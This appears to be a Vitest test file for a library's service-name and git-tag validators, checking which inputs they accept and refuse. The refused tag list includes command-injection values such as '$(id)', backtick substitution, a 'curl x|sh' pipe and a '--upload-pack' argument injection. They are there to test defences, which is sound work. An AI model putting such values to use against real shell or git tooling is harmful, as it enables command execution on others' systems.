import { describe, expect, it } from "vitest";
import { UsageError, validateService, validateTag } from "../../src/index.js";

describe("service names", () => {
  it.each(["auth", "name-authorization", "a", "svc.v2", "x_1", "a".repeat(63)])("accepts %s", (s) => {
    expect(validateService(s)).toBe(s);
  });
  it.each(["Auth Service", "", "-auth", ".auth", "Auth", "a".repeat(64), "a b", "a/b", "a;b"])(
    "refuses %j",
    (s) => {
      expect(() => validateService(s)).toThrow(UsageError);
    },
  );
  it("names the field in the message", () => {
    expect(() => validateService("Auth Service")).toThrow(
      /^service: "Auth Service" is not a valid service name/,
    );
  });
});

describe("tags", () => {
  it.each(["v1.0.0", "v1.2.3-rc.1", "1.0.0+build.5", "release/2024-01", "V_1"])("accepts %s", (t) => {
    expect(validateTag(t)).toBe(t);
  });
  it.each([
    "v1;$(id)",
    "v1;$(touch /tmp/pwned)",
    "--upload-pack=x",
    "-v1",
    "v1..2",
    "v1 2",
    'v1";curl x|sh;"',
    "v1`id`",
    "v1$HOME",
    "/v1",
    "v1/",
    "v1.",
    "v1.lock",
    "a//b",
    "",
    "a".repeat(129),
    "v1\nv2",
    // git check-ref-format refuses these too
    "v1/.x",
    "release/.hidden/v1",
    "v1.lock/x",
  ])("refuses %j", (t) => {
    expect(() => validateTag(t)).toThrow(UsageError);
  });
  it("accepts 128 characters", () => {
    expect(validateTag("a".repeat(128))).toHaveLength(128);
  });
});
